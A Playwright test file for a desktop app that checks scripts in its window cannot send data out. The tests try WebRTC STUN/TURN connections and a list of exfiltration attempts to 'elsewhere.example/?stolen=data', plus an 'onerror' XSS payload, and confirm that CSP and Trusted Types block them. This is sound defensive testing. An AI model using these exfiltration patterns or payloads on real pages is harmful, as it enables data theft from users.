/** A script in the window reaches no network: not by requests, which CSP stops, and not by WebRTC, which no CSP knows. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { expect, test } from '@playwright/test';
import { chromium, type Page } from 'playwright-core';
import { findChromium } from '../../scripts/lib/chromium.mjs';
import { appReady } from './support/driver.ts';
import { type Latchkey, launchLatchkey } from './support/launch.ts';

let latchkey: Latchkey;
test.beforeAll(async () => {
  latchkey = await launchLatchkey({ env: { LATCHKEY_HOST_NETWORK: 'app' } });
  await appReady(latchkey.page);
});
test.afterAll(async () => {
  await latchkey.close();
});

interface Policies {
  readonly trustedTypes: { createPolicy(name: string, rules: { createHTML(text: string): string }): unknown };
}

interface Listeners {
  readonly udp: number;
  readonly tcp: number;
  /** Packets and connections so far. */
  readonly heard: { udp: number; tcp: number };
  close(): void;
}

/** A server on loopback that waits for STUN and TURN, by UDP and by TCP. */
async function listen(): Promise<Listeners> {
  const heard = { udp: 0, tcp: 0 };
  const udp = createSocket('udp4', () => {
    heard.udp += 1;
  });
  udp.bind(0, '127.0.0.1');
  const tcp = createServer((socket) => {
    heard.tcp += 1;
    socket.on('error', () => {}).destroy();
  }).listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  const close = () => void [udp.close(), tcp.close()];
  return { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port, heard, close };
}

/** Connects as a script does that wants to send data out. */
const connect = (page: Page, { udp, tcp }: Listeners): Promise<void> =>
  page.evaluate(
    async ([toUdp, toTcp]) => {
      const login = { username: 'stolen', credential: 'data' };
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${toUdp}` },
          { urls: `turn:127.0.0.1:${toUdp}?transport=udp`, ...login },
          { urls: `turn:127.0.0.1:${toTcp}?transport=tcp`, ...login },
          { urls: `turns:127.0.0.1:${toTcp}?transport=tcp`, ...login },
        ],
      });
      connection.createDataChannel('out');
      Object.assign(window, { connection });
      await connection.setLocalDescription();
    },
    [udp, tcp] as const,
  );

/** `complete` when the connection of `connect` will try no other way. */
const gathering = (page: Page): Promise<string> =>
  page.evaluate(() => (window as unknown as { connection: RTCPeerConnection }).connection.iceGatheringState);

test('the window sends nothing over WebRTC, by UDP or TCP, where a browser does', async () => {
  const listeners = await listen();
  const executablePath = findChromium();
  expect(executablePath).not.toBeNull();
  const root = process.getuid?.() === 0;
  const browser = await chromium.launch({ executablePath: executablePath ?? '', args: root ? ['--no-sandbox'] : [] });
  await connect(await browser.newPage(), listeners);
  await expect.poll(() => listeners.heard.udp > 0 && listeners.heard.tcp > 0).toBe(true);
  await browser.close();

  Object.assign(listeners.heard, { udp: 0, tcp: 0 });
  await connect(latchkey.page, listeners);
  await expect.poll(() => gathering(latchkey.page)).toBe('complete');
  expect(listeners.heard).toEqual({ udp: 0, tcp: 0 });
  listeners.close();
});

test('requests and markup of a script end at the page’s policy', async () => {
  const { page } = latchkey;
  await page.evaluate(async () => {
    const elsewhere = 'https://elsewhere.example/?stolen=data';
    const directives = new Set<string>();
    Object.assign(window, { directives });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.add(effectiveDirective),
    );
    const attempts = [
      () => fetch(elsewhere, { mode: 'no-cors' }),
      () => navigator.sendBeacon(elsewhere, 'data'),
      () => new EventSource(elsewhere),
      () => new Worker('data:text/javascript,0'),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: elsewhere })),
      () => document.head.append(Object.assign(document.createElement('script'), { src: elsewhere })),
      () => document.body.append(Object.assign(document.createElement('img'), { src: elsewhere })),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: elsewhere })),
      () => document.body.append(Object.assign(document.createElement('object'), { data: elsewhere })),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
      () => Object.assign(document.createElement('script'), { text: 'alert(1)' }),
      () => (window as unknown as Policies).trustedTypes.createPolicy('default', { createHTML: String }),
      () => new FontFace('out', `url(${elsewhere})`).load(),
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // It is stopped.
      }
    }
  });
  const stopped = () =>
    page.evaluate(() => [...(window as unknown as { directives: Set<string> }).directives].toSorted());
  // A script's, object's or worker's address must be trusted before it is compared with the sources.
  await expect
    .poll(stopped)
    .toEqual([
      ...['connect-src', 'font-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'style-src-elem'],
      'trusted-types',
    ]);
  // The host hears of what passes the policy. It replaces WebSocket, so that one is not tried.
  expect(latchkey.facts.filter(({ host }) => host === 'refused-request')).toEqual([]);
});

test('a link opens only when the person confirms its host', async () => {
  const host = latchkey.runtime === 'host' ? latchkey : await launchLatchkey({ runtime: 'host' });
  const { page } = host;
  await appReady(page);
  const opened = () => host.facts.filter((fact) => fact.host === 'opened-outside');
  const open = (url: string) =>
    page.evaluate((address) => {
      const bridge = window as unknown as { latchkey: { app: { openLink(input: object): Promise<unknown> } } };
      return bridge.latchkey.app.openLink({ url: address });
    }, url);
  await page.evaluate(() => window.open('https://elsewhere.example/?stolen=data'));
  await open('https://elsewhere.example/?stolen=data');
  expect(opened()).toEqual([]);
  await host.answerMessageBox(0);
  await open('https://docs.example/');
  expect(opened()).toEqual([{ host: 'opened-outside', url: 'https://docs.example/' }]);
  if (host !== latchkey) await host.close();
});
